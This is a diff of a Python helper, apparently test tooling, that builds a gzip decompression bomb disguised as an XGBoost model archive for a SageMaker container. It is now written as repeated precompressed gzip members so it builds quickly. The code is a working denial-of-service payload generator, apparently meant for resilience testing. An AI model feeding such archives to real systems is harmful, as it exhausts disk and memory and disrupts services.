@@ -20,15 +20,18 @@ IMAGE = "683313688378.dkr.ecr.us-east-1.amazonaws.com/sagemaker-xgboost:1.7-1"
 
 
 def bomb(path: Path, unpacked: int, name: str = "xgboost-model") -> Path:
-    """A gzip bomb: one tar entry of ``unpacked`` zero bytes, a few KB to a few MB on disk."""
-    with gzip.open(path, "wb", compresslevel=1) as out:
-        info = tarfile.TarInfo(name)
-        info.size = unpacked
-        out.write(info.tobuf())
-        chunk = b"\0" * (1 << 20)
+    """A gzip bomb: one tar entry of ``unpacked`` zero bytes, a few KB to a few MB on disk.
+
+    Written as gzip members one after another (a megabyte of zeros compressed once and its member
+    repeated), which gzip and tarfile read as one stream: deflating 1.5 GB took three seconds."""
+    info = tarfile.TarInfo(name)
+    info.size = unpacked
+    megabyte = gzip.compress(b"\0" * (1 << 20), compresslevel=9, mtime=0)
+    with path.open("wb") as out:
+        out.write(gzip.compress(info.tobuf(), mtime=0))
         for _ in range(unpacked >> 20):
-            out.write(chunk)
-        out.write(b"\0" * (unpacked % (1 << 20) + 1024))
+            out.write(megabyte)
+        out.write(gzip.compress(b"\0" * (unpacked % (1 << 20) + 1024), mtime=0))
     return path
 
 
